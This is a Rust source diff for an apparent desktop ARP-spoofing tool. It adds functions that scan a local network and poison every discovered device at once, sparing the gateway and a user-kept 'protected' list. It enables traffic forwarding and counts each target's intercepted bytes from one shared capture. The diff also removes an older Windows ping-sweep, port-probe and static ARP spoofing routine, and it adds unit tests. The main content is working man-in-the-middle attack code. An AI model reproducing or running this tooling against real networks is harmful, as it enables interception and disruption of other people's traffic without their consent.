+        .take(query.limit.unwrap_or(usize::MAX))
+        .collect();
+    
+    Ok(ActiveSessions::Page(SessionPage { sessions, total }))
+}
+
+/// Sort sessions by `sort_by`, breaking ties by target IP and then session id
+/// so pages stay stable between calls
+fn sort_sessions(sessions: &mut [SpoofingSession], sort_by: SessionSort) {
+    let target_ip = |session: &SpoofingSession| session.target_ip.parse::<Ipv4Addr>().ok();
+    
+    sessions.sort_by(|a, b| {
+        let primary = match sort_by {
+            SessionSort::TargetIp => std::cmp::Ordering::Equal,
+            SessionSort::PacketsSent => b.packets_sent.cmp(&a.packets_sent),
+            SessionSort::Uptime => b.uptime_secs.cmp(&a.uptime_secs),
+        };
+        primary
+            .then_with(|| target_ip(a).cmp(&target_ip(b)))
+            .then_with(|| a.target_ip.cmp(&b.target_ip))
+            .then_with(|| a.id.cmp(&b.id))
+    });
+}
+
+/// A copy of the session with its derived stats and traffic totals filled in
+fn session_snapshot(session_info: &SpoofingSessionInfo, now: u64) -> SpoofingSession {
+    let mut session = session_info.session.clone();
+    session.update_stats(now);
+    (session.bytes_up, session.bytes_down) = session_info.traffic.totals();
+    session
+}
+
+/// Emit `event` (`session-started`, `session-updated` or `session-stopped`)
+/// with the current state of session `session_id`
+fn emit_session_event(
+    app: &AppHandle,
+    event: &str,
+    sessions: &HashMap<String, SpoofingSessionInfo>,
+    session_id: &str,
+) {
+    if let Some(session_info) = sessions.get(session_id) {
+        if let Err(e) = app.emit(event, session_snapshot(session_info, now_millis())) {
+            eprintln!("Failed to emit {}: {}", event, e);
+        }
+    }
+}
+
+/// Emit `session-stats` with per-session throughput every second for the lifetime of the app
+pub fn spawn_session_stats_emitter(
+    sessions: Arc<Mutex<SessionTable>>,
+    app: AppHandle,
+) {
+    thread::spawn(move || {
+        let mut previous: HashMap<String, (u64, u64)> = HashMap::new();
+        let mut last_tick = Instant::now();
+        
+        loop {
+            thread::sleep(Duration::from_secs(1));
+            let elapsed = last_tick.elapsed().as_secs_f64().max(0.001);
+            last_tick = Instant::now();
+            
+            let mut stats = Vec::new();
+            if let Ok(sessions) = sessions.lock() {
+                for (session_id, session_info) in sessions.iter() {
+                    if session_info.session.state == SessionState::Stopped {
+                        continue;
+                    }
+                    
+                    let (bytes_up, bytes_down) = session_info.traffic.totals();
+                    let (prev_up, prev_down) = previous.get(session_id).copied().unwrap_or((0, 0));
+                    stats.push(SessionStats {
+                        session_id: session_id.clone(),
+                        bytes_up,
+                        bytes_down,
+                        up_rate: bytes_up.saturating_sub(prev_up) as f64 / elapsed,
+                        down_rate: bytes_down.saturating_sub(prev_down) as f64 / elapsed,
+                    });
+                }
+            }
+            
+            previous = stats.iter()
+                .map(|stat| (stat.session_id.clone(), (stat.bytes_up, stat.bytes_down)))
+                .collect();
+            
+            if !stats.is_empty() {
+                if let Err(e) = app.emit("session-stats", &stats) {
+                    eprintln!("Failed to emit session-stats event: {}", e);
+                }
+            }
+        }
+    });
+}
+
+static DEVICE_LABELS_FILE: &str = "device_labels.json";
+
+/// Names the user gave to devices, keyed by MAC so they follow a device across IPs
+fn load_device_labels() -> HashMap<String, String> {
+    match storage::load_json(DEVICE_LABELS_FILE) {
+        Ok(labels) => labels.unwrap_or_default(),
+        Err(e) => {
+            eprintln!("Ignoring device labels: {}", e);
+            HashMap::new()
+        }
+    }
+}
+
+/// Fill in the saved label of each device
+fn apply_device_labels(devices: &mut [NetworkDevice]) {
+    let labels = load_device_labels();
+    for device in devices {
+        device.label = normalize_mac(&device.mac).and_then(|mac| labels.get(&mac).cloned());
     }
+}
+
+/// Give the device with `mac` a friendly name shown in every later scan, or
+/// remove its name when `label` is empty. Returns all saved labels by MAC.
+pub fn set_device_label(mac: String, label: Option<String>) -> Result<HashMap<String, String>, AppError> {
+    let mac = normalize_mac(&mac)
+        .ok_or_else(|| config_error("Invalid MAC address", Some(&mac)))?;
     
-    // Add our own interface
-    device_list.push(NetworkDevice {
-        ip: local_ip.to_string(),
-        mac: local_mac.to_string(),
-        hostname: "Local Machine".to_string(),
-        vendor: "Local".to_string(),
-    });
+    let mut labels: HashMap<String, String> = storage::load_json(DEVICE_LABELS_FILE)
+        .map_err(|e| system_error("Failed to load device labels", Some(&e)))?
+        .unwrap_or_default();
+    match label.as_deref().map(str::trim).filter(|label| !label.is_empty()) {
+        Some(label) => labels.insert(mac, label.to_string()),
+        None => labels.remove(&mac),
+    };
     
-    // Sort by IP address
-    device_list.sort_by(|a, b| {
-        let a_ip: Result<Ipv4Addr, _> = a.ip.parse();
-        let b_ip: Result<Ipv4Addr, _> = b.ip.parse();
-        match (a_ip, b_ip) {
-            (Ok(a_addr), Ok(b_addr)) => a_addr.cmp(&b_addr),
-            _ => a.ip.cmp(&b.ip),
-        }
-    });
+    storage::save_json(DEVICE_LABELS_FILE, &labels)
+        .map_err(|e| system_error("Failed to save device labels", Some(&e)))?;
     
-    println!("Scan complete. Found {} devices", device_list.len());
-    Ok(device_list)
+    Ok(labels)
 }
 
-#[derive(Debug)]
-struct ArpEntry {
-    ip: String,
-    mac: String,
+static PROTECTED_FILE: &str = "protected.json";
+
+/// A device `start_spoof_all` left alone, and why
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct SkippedDevice {
+    pub ip: String,
+    pub mac: String,
+    pub reason: String,
 }
 
-fn perform_aggressive_ping_sweep(network: Ipv4Network) -> Result<(), String> {
-    let mut handles = Vec::new();
-    
-    // Send multiple types of pings to all IPs in the network
-    for target_ip in network.iter().take(254) {
-        let ip_str = target_ip.to_string();
-        
-        let handle = thread::spawn(move || {
-            // Method 1: Standard ping
-            let _ = Command::new("ping")
-                .arg("-n")
-                .arg("1")
-                .arg("-w")
-                .arg("50")
-                .arg(&ip_str)
-                .output();
-            
-            // Method 2: Ping with different packet size
-            let _ = Command::new("ping")
-                .arg("-n")
-                .arg("1")
-                .arg("-w")
-                .arg("50")
-                .arg("-l")
-                .arg("32")
-                .arg(&ip_str)
-                .output();
-        });
-        
-        handles.push(handle);
-        
-        // Limit concurrent operations
-        if handles.len() >= 30 {
-            for handle in handles.drain(..) {
-                let _ = handle.join();
-            }
+/// A device `start_spoof_all` tried to target but could not, e.g. because its MAC didn't resolve
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct FailedDevice {
+    pub ip: String,
+    pub mac: String,
+    pub error: AppError,
+}
+
+/// Outcome of `start_spoof_all`
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct SpoofAllResult {
+    /// Sessions started, or already running, for the targeted devices
+    pub session_ids: Vec<String>,
+    pub skipped: Vec<SkippedDevice>,
+    #[serde(default)]
+    pub failed: Vec<FailedDevice>,
+}
+
+/// IPs and MACs that `start_spoof_all` never targets, as saved in the config directory
+pub fn get_protected_ips() -> Result<Vec<String>, AppError> {
+    Ok(storage::load_json(PROTECTED_FILE)
+        .map_err(|e| system_error("Failed to load protected devices", Some(&e)))?
+        .unwrap_or_default())
+}
+
+/// Replace the saved protected list. Each entry must be an IP or a MAC address.
+pub fn set_protected_ips(entries: Vec<String>) -> Result<Vec<String>, AppError> {
+    let mut protected = Vec::new();
+    for entry in entries {
+        let entry = entry.trim();
+        let canonical = match entry.parse::<IpAddr>() {
+            Ok(ip) => ip.to_string(),
+            Err(_) => normalize_mac(entry)
+                .ok_or_else(|| config_error("Protected entries must be IP or MAC addresses", Some(entry)))?,
+        };
+        if !protected.contains(&canonical) {
+            protected.push(canonical);
         }
     }
     
-    // Wait for remaining operations
-    for handle in handles {
-        let _ = handle.join();
-    }
+    storage::save_json(PROTECTED_FILE, &protected)
+        .map_err(|e| system_error("Failed to save protected devices", Some(&e)))?;
     
-    Ok(())
+    Ok(protected)
 }
 
-fn perform_arp_requests(network: Ipv4Network) -> Result<(), String> {
-    let mut handles = Vec::new();
+/// Why `device` must not be spoofed, if any entry of `protected` matches its IP or MAC
+fn protection_reason(device: &NetworkDevice, protected: &[String]) -> Option<String> {
+    let device_ip = device.ip.parse::<IpAddr>().ok();
+    let device_mac = normalize_mac(&device.mac);
     
-    // Send ARP requests using Windows arp command
-    for target_ip in network.iter().take(254) {
-        let ip_str = target_ip.to_string();
-        
-        let handle = thread::spawn(move || {
-            // Try to resolve MAC address using arp command
-            let _ = Command::new("arp")
-                .arg("-a")
-                .arg(&ip_str)
-                .output();
-        });
-        
-        handles.push(handle);
-        
-        if handles.len() >= 20 {
-            for handle in handles.drain(..) {
-                let _ = handle.join();
-            }
+    protected.iter().find_map(|entry| {
+        if let Ok(ip) = entry.trim().parse::<IpAddr>() {
+            (device_ip == Some(ip)).then(|| format!("IP {} is protected", ip))
+        } else {
+            let mac = normalize_mac(entry)?;
+            (device_mac.as_ref() == Some(&mac)).then(|| format!("MAC {} is protected", mac))
         }
-    }
+    })
+}
+
+/// Spoof every device in `devices` except the gateway and anything matching
+/// `protected_ips` or the saved protected list. Every target gets its own
+/// session, but all of them are poisoned from one shared thread and their
+/// traffic is counted from one shared capture. Devices past the session
+/// limit are skipped.
+pub fn start_spoof_all(
+    devices: Vec<NetworkDevice>,
+    gateway_ip: String,
+    interface_name: String,
+    protected_ips: Vec<String>,
+    options: SpoofingOptions,
+    state: State<SpoofingSessions>,
+    app: AppHandle,
+) -> Result<SpoofAllResult, AppError> {
+    require_elevation("spoof ARP traffic")?;
     
-    for handle in handles {
-        let _ = handle.join();
+    if options.dry_run {
+        return Err(config_error("Dry runs are only supported for a single target", None));
+    }
+    if options.capture_path.is_some() {
+        return Err(config_error("Packet capture is only supported for a single target", None));
     }
     
-    Ok(())
-}
-
-fn perform_port_scan(network: Ipv4Network) -> Result<(), String> {
-    let common_ports = vec![80, 443, 22, 21, 23, 25, 53, 110, 995, 993, 143, 587];
-    let mut handles = Vec::new();
+    let mut protected = get_protected_ips()?;
+    protected.extend(protected_ips);
+    
+    // Looked up once for every target instead of once per device
+    let setup = SpoofSetup::new(&interface_name, &options)?;
+    let gateway_addr = parse_host_ip(&gateway_ip, "gateway IP")?;
+    let gateway_mac = resolve_mac_excluding(gateway_addr, &interface_name, &setup.interface_mac)
+        .map_err(|e| spoofing_error("Failed to resolve gateway MAC", Some(&e)))?;
+    let gateway_ip = gateway_addr.to_string();
+    
+    let mut result = SpoofAllResult::default();
     
-    // Scan common ports to trigger network responses
-    for target_ip in network.iter().take(254) {
-        let ip_str = target_ip.to_string();
+    // Reserve every new session under one lock, so a parallel start can't
+    // target the same devices or push past the session limit
+    let mut reserved = Vec::new();
+    {
+        let mut sessions = state.0.lock()
+            .map_err(|e| system_error("Failed to access spoofing sessions", Some(&e.to_string())))?;
         
-        for &port in &common_ports {
-            let ip_clone = ip_str.clone();
-            let handle = thread::spawn(move || {
-                // Use telnet or netstat to probe ports
-                let _ = Command::new("telnet")
-                    .arg(&ip_clone)
-                    .arg(&port.to_string())
-                    .output();
-            });
+        for device in devices {
+            let reason = if device.ip == gateway_ip {
+                Some("Gateway".to_string())
+            } else {
+                protection_reason(&device, &protected)
+            };
+            if let Some(reason) = reason {
+                result.skipped.push(SkippedDevice { ip: device.ip, mac: device.mac, reason });
+                continue;
+            }
             
-            handles.push(handle);
+            if !options.force {
+                if let Some(existing_id) = sessions.find_running(&device.ip, &interface_name) {
+                    result.session_ids.push(existing_id);
+                    continue;
+                }
+            }
             
-            // Limit concurrent connections
-            if handles.len() >= 50 {
-                for handle in handles.drain(..) {
-                    let _ = handle.join();
+            match sessions.reserve(&device.ip, &interface_name) {
+                Ok(session_id) => reserved.push((reserved.len(), session_id, device)),
+                Err(_) => {
+                    let reason = format!("Session limit of {} reached", max_concurrent_sessions());
+                    result.skipped.push(SkippedDevice { ip: device.ip, mac: device.mac, reason });
                 }
             }
         }
     }
+    let reserved_ids: Vec<String> = reserved.iter().map(|(_, session_id, _)| session_id.clone()).collect();
     
-    for handle in handles {
-        let _ = handle.join();
+    // A silent host takes MAC_RESOLVE_TIMEOUT to give up on, so resolve several at once
+    let resolved = Arc::new(Mutex::new(Vec::with_capacity(reserved.len())));
+    {
+        let resolved = Arc::clone(&resolved);
+        let interface_name = interface_name.clone();
+        let network = setup.network;
+        let interface_mac = setup.interface_mac.clone();
+        run_worker_pool(reserved, SPOOF_ALL_RESOLVE_WORKERS, &ScanHandle::new(), move |(index, session_id, device)| {
+            let target = parse_host_ip(&device.ip, "target IP").and_then(|target_addr| {
+                validate_spoofing_targets(&interface_name, network, target_addr, gateway_addr)?;
+                let target_mac = resolve_mac_excluding(target_addr, &interface_name, &interface_mac)
+                    .map_err(|e| spoofing_error("Failed to resolve target MAC", Some(&e)))?;
+                Ok((target_addr, target_mac))
+            });
+            if let Ok(mut resolved) = resolved.lock() {
+                resolved.push((index, session_id, device, target));
+            }
+        });
     }
+    let mut resolved = match resolved.lock() {
+        Ok(mut resolved) => std::mem::take(&mut *resolved),
+        Err(_) => Vec::new(),
+    };
+    resolved.sort_by_key(|(index, _, _, _)| *index);
     
-    Ok(())
-}
-
-fn get_neighbor_discovery(network: Ipv4Network) -> Result<Vec<(String, String)>, String> {
-    let mut neighbors = Vec::new();
-    
-    // Use netsh to get neighbor cache
-    let output = Command::new("netsh")
-        .arg("interface")
-        .arg("ipv4")
-        .arg("show")
-        .arg("neighbors")
-        .output()
-        .map_err(|e| format!("Failed to run netsh: {}", e))?;
+    // Forwarding is turned on once for every target; the first session started owns it
+    let forwarding = if resolved.iter().any(|(_, _, _, target)| target.is_ok()) {
+        enable_forwarding(&options)
+    } else {
+        Ok(false)
+    };
+    let mut unowned_forwarding = matches!(forwarding, Ok(true));
     
-    if output.status.success() {
-        let output_str = String::from_utf8_lossy(&output.stdout);
-        
-        for line in output_str.lines() {
-            if line.contains("Reachable") || line.contains("Stale") {
-                let parts: Vec<&str> = line.split_whitespace().collect();
-                if parts.len() >= 2 {
-                    let ip = parts[0];
-                    let mac = parts[1];
-                    
-                    if let Ok(ip_addr) = ip.parse::<Ipv4Addr>() {
-                        if network.contains(ip_addr) {
-                            neighbors.push((ip.to_string(), mac.to_string()));
-                        }
-                    }
+    let mut prepared = Vec::new();
+    let mut targets = Vec::new();
+    let mut monitored = HashMap::new();
+    for (_, session_id, device, target) in resolved {
+        let session = match (target, &forwarding) {
+            (Err(error), _) => Err(error),
+            (Ok(_), Err(error)) => Err(error.clone()),
+            (Ok(target), Ok(_)) => prepare_session(
+                session_id,
+                target,
+                vec![(gateway_addr, gateway_mac.clone())],
+                &interface_name,
+                &options,
+                &setup,
+                unowned_forwarding,
+            ),
+        };
+        match session {
+            Ok((session_info, target)) => {
+                unowned_forwarding = false;
+                if options.forward_traffic {
+                    monitored.insert(target.target_ip, traffic::MonitoredTarget {
+                        counters: session_info.traffic.clone(),
+                        stop_flag: session_info.stop_flag.clone(),
+                    });
                 }
+                prepared.push(session_info);
+                targets.push(target);
+            }
+            Err(error) => {
+                eprintln!("Failed to start spoofing for {}: {}", device.ip, error);
+                result.failed.push(FailedDevice { ip: device.ip, mac: device.mac, error });
             }
         }
     }
     
-    Ok(neighbors)
-}
-
-fn get_windows_arp_table() -> Result<Vec<ArpEntry>, String> {
-    let mut entries = Vec::new();
-    
-    unsafe {
-        let mut buffer_size = 0u32;
-        
-        // First call to get the required buffer size
-        let result = GetIpNetTable(None, &mut buffer_size, false);
-        
-        if result != ERROR_INSUFFICIENT_BUFFER.0 {
-            return Err("Failed to get ARP table size".to_string());
-        }
-        
-        // Allocate buffer
-        let mut buffer = vec![0u8; buffer_size as usize];
-        let table_ptr = buffer.as_mut_ptr() as *mut MIB_IPNETTABLE;
-        
-        // Second call to get the actual data
-        let result = GetIpNetTable(Some(table_ptr), &mut buffer_size, false);
-        
-        if result != NO_ERROR.0 {
-            return Err(format!("Failed to get ARP table: {}", result));
+    {
+        let mut sessions = state.0.lock()
+            .map_err(|e| system_error("Failed to access spoofing sessions", Some(&e.to_string())))?;
+        for session_id in &reserved_ids {
+            sessions.release(session_id);
         }
         
-        let table = &*table_ptr;
-        let num_entries = table.dwNumEntries as usize;
-        
-        // Safety check: ensure we don't exceed the actual table size
-        let max_entries = std::cmp::min(num_entries, table.table.len());
-        
-        // Process each ARP entry
-        for i in 0..max_entries {
-            let entry = &table.table[i];
-            
-            // Convert IP address
-            let ip_addr = Ipv4Addr::from(u32::from_be(entry.dwAddr));
-            
-            // Convert MAC address
-            let mac_bytes = &entry.bPhysAddr[..entry.dwPhysAddrLen as usize];
-            let mac_str = if mac_bytes.len() == 6 {
-                format!("{:02x}:{:02x}:{:02x}:{:02x}:{:02x}:{:02x}",
-                    mac_bytes[0], mac_bytes[1], mac_bytes[2],
-                    mac_bytes[3], mac_bytes[4], mac_bytes[5])
-            } else {
-                "00:00:00:00:00:00".to_string()
-            };
-            
-            // Only include dynamic and static entries (skip invalid ones)
-            if entry.Anonymous.Type == MIB_IPNET_TYPE_DYNAMIC ||
-               entry.Anonymous.Type == MIB_IPNET_TYPE_STATIC ||
-               entry.Anonymous.Type == MIB_IPNET_TYPE_OTHER {
-                entries.push(ArpEntry {
-                    ip: ip_addr.to_string(),
-                    mac: mac_str,
-                });
-            }
+        for session_info in prepared {
+            let session_id = session_info.session.id.clone();
+            sessions.insert(session_id.clone(), session_info);
+            emit_session_event(&app, "session-started", &sessions, &session_id);
+            result.session_ids.push(session_id);
         }
+        persist_sessions(&sessions);
     }
     
-    Ok(entries)
-}
-
-fn resolve_hostname(ip: &str) -> Option<String> {
-    let output = Command::new("nslookup")
-        .arg(ip)
-        .output()
-        .ok()?;
-    
-    let output_str = String::from_utf8(output.stdout).ok()?;
+    if unowned_forwarding {
+        abandon_forwarding(&state.0, true);
+    }
+    if targets.is_empty() {
+        return Ok(result);
+    }
     
-    for line in output_str.lines() {
-        if line.contains("name =") {
-            if let Some(name) = line.split("name =").nth(1) {
-                return Some(name.trim().trim_end_matches('.').to_string());
+    // One capture counts the traffic of every target rather than one per device
+    if !monitored.is_empty() {
+        let local_mac = setup.interface_mac.clone();
+        let monitor_interface = interface_name.clone();
+        thread::spawn(move || {
+            if let Err(e) = traffic::monitor_targets(&local_mac, monitored) {
+                eprintln!("Traffic monitoring on {} unavailable: {}", monitor_interface, e);
             }
-        }
+        });
     }
     
-    None
+    // A single thread poisons every target in turn rather than one per device
+    let sessions = state.0.clone();
+    thread::spawn(move || {
+        perform_arp_spoofing(targets, interface_name, options, sessions, app);
+    });
+    
+    Ok(result)
 }
 
-fn get_vendor_from_mac(_mac: &str) -> Option<String> {
-    // This would typically involve looking up the MAC address in an OUI database
-    // For now, return a placeholder
-    Some("Unknown".to_string())
+/// What `scan_and_spoof_all` scans, and whom it spares
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ScanAndSpoofRequest {
+    pub interface_name: String,
+    pub gateway_ip: String,
+    /// Never spoofed, in addition to the saved protected list
+    #[serde(default)]
+    pub protected_ips: Vec<String>,
+    #[serde(default)]
+    pub scan_options: ScanOptions,
+    #[serde(default)]
+    pub options: SpoofingOptions,
 }
 
-pub fn start_spoofing(
-    target_ip: String,
-    gateway_ip: String,
-    interface_name: String,
+/// Outcome of `scan_and_spoof_all`
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ScanAndSpoofResult {
+    pub scan: ScanResult,
+    /// Unset when the scan was cancelled or timed out, in which case nothing was spoofed
+    pub spoof: Option<SpoofAllResult>,
+}
+
+/// Scan the IPv4 network of an interface and spoof every device found with
+/// `start_spoof_all`, which leaves out the gateway and protected devices.
+/// This machine is left out of the scan, so it never shows up as a failure.
+/// A scan that is cancelled or times out spoofs nothing.
+pub fn scan_and_spoof_all(
+    request: ScanAndSpoofRequest,
+    scan: &ScanHandle,
     state: State<SpoofingSessions>,
-) -> Result<String, String> {
-    let session_id = Uuid::new_v4().to_string();
-    
-    // Validate IP addresses
-    let target_addr: Ipv4Addr = target_ip.parse()
-        .map_err(|e| format!("Invalid target IP: {}", e))?;
-    let gateway_addr: Ipv4Addr = gateway_ip.parse()
-        .map_err(|e| format!("Invalid gateway IP: {}", e))?;
-    
-    // Create session
-    let session = SpoofingSession {
-        id: session_id.clone(),
-        target_ip: target_ip.clone(),
-        gateway_ip: gateway_ip.clone(),
-        interface: interface_name.clone(),
-        is_active: true,
-        packets_sent: 0,
+    app: AppHandle,
+) -> Result<ScanAndSpoofResult, AppError> {
+    let ScanAndSpoofRequest { interface_name, gateway_ip, protected_ips, scan_options, options } = request;
+    let scan_options = ScanOptions {
+        include_self: false,
+        ..scan_options
     };
+    let scan_result = scan_network(interface_name.clone(), None, ScanMode::Ipv4Only, &scan_options, scan, &app)?;
     
-    let stop_flag = Arc::new(Mutex::new(false));
-    let stop_flag_clone = stop_flag.clone();
-    
-    // Start spoofing thread
-    let session_id_clone = session_id.clone();
-    let sessions_clone = state.0.clone();
-    
-    thread::spawn(move || {
-        perform_windows_arp_spoofing(
-            target_addr,
-            gateway_addr,
-            interface_name,
-            stop_flag_clone,
-            session_id_clone,
-            sessions_clone,
-        );
-    });
-    
-    // Store session data
-    let session_info = SpoofingSessionInfo {
-        session,
-        stop_flag,
-    };
+    // Cancelling from the UI must never end up poisoning the devices found so far
+    if scan.is_cancelled() || scan_result.timed_out {
+        println!("Scan of {} did not finish, not spoofing its {} devices", interface_name, scan_result.devices.len());
+        return Ok(ScanAndSpoofResult {
+            scan: scan_result,
+            spoof: None,
+        });
+    }
     
-    let mut sessions = state.0.lock().map_err(|e| e.to_string())?;
-    sessions.insert(session_id.clone(), session_info);
+    let spoof_result = start_spoof_all(
+        scan_result.devices.clone(),
+        gateway_ip,
+        interface_name,
+        protected_ips,
+        options,
+        state,
+        app,
+    )?;
     
-    Ok(session_id)
+    Ok(ScanAndSpoofResult {
+        scan: scan_result,
+        spoof: Some(spoof_result),
+    })
 }
 
-fn perform_windows_arp_spoofing(
-    target_ip: Ipv4Addr,
-    gateway_ip: Ipv4Addr,
-    interface_name: String,
-    stop_flag: Arc<Mutex<bool>>,
-    session_id: String,
-    sessions: Arc<Mutex<HashMap<String, SpoofingSessionInfo>>>,
-) {
-    let mut packet_count = 0u32;
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use platform::MockRunner;
     
-    // Get local MAC address for the interface
-    let local_mac = match get_interface_mac(&interface_name) {
-        Ok(mac) => mac,
-        Err(e) => {
-            eprintln!("Failed to get interface MAC: {}", e);
-            return;
+    #[test]
+    fn ping_sweep_probes_every_host_twice() {
+        let runner = Arc::new(MockRunner::default());
+        let hosts = vec![Ipv4Addr::new(192, 168, 1, 10), Ipv4Addr::new(192, 168, 1, 11)];
+        
+        perform_aggressive_ping_sweep(runner.clone(), hosts.clone(), 4, &ScanHandle::new()).unwrap();
+        
+        let calls = runner.calls();
+        assert_eq!(calls.len(), 4);
+        for host in hosts {
+            let probes = calls.iter()
+                .filter(|call| call[0] == "ping" && call.last() == Some(&host.to_string()))
+                .count();
+            assert_eq!(probes, 2, "expected two probes of {}", host);
         }
-    };
+    }
     
-    loop {
-        // Check stop flag
-        if let Ok(should_stop) = stop_flag.lock() {
-            if *should_stop {
-                break;
-            }
-        }
+    #[test]
+    fn cancelled_ping_sweep_runs_nothing() {
+        let runner = Arc::new(MockRunner::default());
+        let scan = ScanHandle::new();
+        scan.cancel();
         
-        // Perform ARP spoofing using Windows commands
-        // 1. Tell target that we are the gateway
-        if let Err(e) = send_windows_arp_spoof(&local_mac, &gateway_ip.to_string(), &target_ip.to_string()) {
-            eprintln!("Failed to send ARP spoof to target: {}", e);
-        } else {
-            packet_count += 1;
-        }
+        perform_aggressive_ping_sweep(runner.clone(), vec![Ipv4Addr::new(10, 0, 0, 1)], 1, &scan).unwrap();
         
-        // 2. Tell gateway that we are the target  
-        if let Err(e) = send_windows_arp_spoof(&local_mac, &target_ip.to_string(), &gateway_ip.to_string()) {
-            eprintln!("Failed to send ARP spoof to gateway: {}", e);
-        } else {
-            packet_count += 1;
-        }
+        assert!(runner.calls().is_empty());
+    }
+    
+    #[test]
+    fn static_spoof_rejects_invalid_mac_without_running_commands() {
+        let runner = MockRunner::default();
         
-        // Update packet count in session
-        if let Ok(mut sessions_guard) = sessions.lock() {
-            if let Some(session_info) = sessions_guard.get_mut(&session_id) {
-                session_info.session.packets_sent = packet_count;
-            }
-        }
+        let result = send_static_arp_spoof(&runner, "eth0", "not-a-mac", Ipv4Addr::new(192, 168, 1, 10));
         
-        // Wait before next iteration
-        thread::sleep(Duration::from_millis(500));
+        assert!(result.is_err());
+        assert!(runner.calls().is_empty());
     }
     
-    // Mark session as inactive when stopping
-    if let Ok(mut sessions_guard) = sessions.lock() {
-        if let Some(session_info) = sessions_guard.get_mut(&session_id) {
-            session_info.session.is_active = false;
-        }
+    #[test]
+    fn static_spoof_gives_up_after_retries() {
+        let runner = MockRunner::default()
+            .with_failure("arp", "busy")
+            .with_failure("ip", "busy");
+        
+        let result = send_static_arp_spoof(&runner, "eth0", "aa:bb:cc:dd:ee:ff", Ipv4Addr::new(192, 168, 1, 10));
+        
+        let error = result.unwrap_err();
+        let details = error.details().unwrap_or_default();
+        assert_eq!(error.code(), ErrorCode::SpoofingError);
+        assert!(details.contains("busy"), "unexpected error: {}", details);
+        assert!(details.contains(&format!("after {} attempts", COMMAND_RETRY_ATTEMPTS)));
     }
-}
-
-fn get_interface_mac(interface_name: &str) -> Result<String, String> {
-    let interfaces = get_interfaces()?;
-    let interface = interfaces.iter()
-        .find(|iface| iface.name == interface_name)
-        .ok_or_else(|| format!("Interface '{}' not found", interface_name))?;
     
-    Ok(interface.mac.clone())
-}
-
-fn send_windows_arp_spoof(local_mac: &str, _spoof_ip: &str, target_ip: &str) -> Result<(), String> {
-    // Use netsh command to add static ARP entry (this is a simplified approach)
-    // In a real implementation, you might want to use raw sockets or WinPcap
+    #[test]
+    fn static_spoof_denied_by_policy_is_a_permission_error() {
+        let runner = MockRunner::default()
+            .with_failure("arp", "The ARP entry addition failed: Access is denied.")
+            .with_failure("ip", "RTNETLINK answers: Operation not permitted");
+        
+        let result = send_static_arp_spoof(&runner, "eth0", "aa:bb:cc:dd:ee:ff", Ipv4Addr::new(192, 168, 1, 10));
+        
+        let error = result.unwrap_err();
+        assert_eq!(error.code(), ErrorCode::PermissionError);
+        // Denials are not retried
+        assert!(!error.details().unwrap_or_default().contains("attempts"));
+    }
     
-    // First, delete any existing ARP entry
-    let _ = Command::new("arp")
-        .arg("-d")
-        .arg(target_ip)
-        .output();
+    #[test]
+    fn retry_returns_first_success() {
+        let mut attempts = 0;
+        
+        let result = retry_with_backoff(|| {
+            attempts += 1;
+            if attempts < 2 { Err("table busy".to_string()) } else { Ok(attempts) }
+        });
+        
+        assert_eq!(result, Ok(2));
+    }
     
-    // Add our spoofed ARP entry
-    let output = Command::new("arp")
-        .arg("-s")
-        .arg(target_ip)
-        .arg(local_mac)
-        .output()
-        .map_err(|e| format!("Failed to execute arp command: {}", e))?;
+    #[test]
+    fn sleep_wakes_up_when_stopped() {
+        let stop_flag = Mutex::new(true);
+        let started = Instant::now();
+        
+        assert!(sleep_unless_stopped(&[&stop_flag], Duration::from_secs(10)));
+        assert!(started.elapsed() < STOP_POLL_INTERVAL);
+        
+        *stop_flag.lock().unwrap() = false;
+        assert!(!sleep_unless_stopped(&[&stop_flag], Duration::from_millis(20)));
+    }
     
-    if !output.status.success() {
-        let error_msg = String::from_utf8_lossy(&output.stderr);
-        return Err(format!("ARP command failed: {}", error_msg));
+    #[test]
+    fn discovery_methods_must_not_all_be_disabled() {
+        let mut options = ScanOptions::default();
+        assert!(options.validate().is_ok());
+        
+        options.methods = DiscoveryMethods {
+            arp_table: false,
+            neighbor_discovery: false,
+            ..DiscoveryMethods::passive()
+        };
+        assert!(options.validate().is_err());
     }
     
-    Ok(())
-}
-
-pub fn stop_spoofing(
-    session_id: String,
-    state: State<SpoofingSessions>,
-) -> Result<bool, String> {
-    let mut sessions = state.0.lock().map_err(|e| e.to_string())?;
+    #[test]
+    fn scan_progress_total_counts_enabled_methods() {
+        assert_eq!(DiscoveryMethods::default().enabled_count(), 5);
+        assert_eq!(DiscoveryMethods::passive().enabled_count(), 2);
+    }
     
-    if let Some(session_info) = sessions.get_mut(&session_id) {
-        // Set stop flag
-        if let Ok(mut stop_flag) = session_info.stop_flag.lock() {
-            *stop_flag = true;
+    #[test]
+    fn rejects_addresses_that_are_not_hosts() {
+        for ip in ["0.0.0.0", "127.0.0.1", "224.0.0.251", "239.255.255.250", "240.0.0.1", "255.255.255.255"] {
+            let error = parse_host_ip(ip, "IP address").unwrap_err();
+            assert_eq!(error.code(), ErrorCode::ConfigurationError, "{} was accepted", ip);
         }
+        assert_eq!(parse_host_ip(" 192.168.1.20 ", "IP address").unwrap(), Ipv4Addr::new(192, 168, 1, 20));
+        assert!(parse_scan_cidr("224.0.0.0/24").is_err());
+        assert!(parse_scan_cidr("10.0.5.0/24").is_ok());
+    }
+    
+    #[test]
+    fn groups_devices_without_a_registered_vendor_as_unknown() {
+        let device = |ip: &str, mac: &str| NetworkDevice {
+            ip: ip.to_string(),
+            mac: mac.to_string(),
+            hostname: "Unknown".to_string(),
+            vendor: "ARP Table".to_string(),
+            open_ports: Vec::new(),
+            conflict: false,
+            device_type: None,
+            label: None,
+            online: true,
+        };
+        let devices = vec![
+            device("192.168.1.10", "b8:27:eb:00:00:01"),
+            device("192.168.1.11", "b8:27:eb:00:00:02"),
+            device("192.168.1.12", "02:00:00:00:00:03"),
+        ];
         
-        // Mark session as inactive
-        session_info.session.is_active = false;
+        let groups = group_devices_by_vendor(devices);
         
-        Ok(true)
-    } else {
-        Err("Session not found".into())
+        assert_eq!(groups.len(), 2);
+        assert_eq!(groups["Raspberry Pi Foundation"].len(), 2);
+        assert_eq!(groups[UNKNOWN_VENDOR][0].ip, "192.168.1.12");
     }
-}
-
-pub fn get_active_sessions(
-    state: State<SpoofingSessions>,
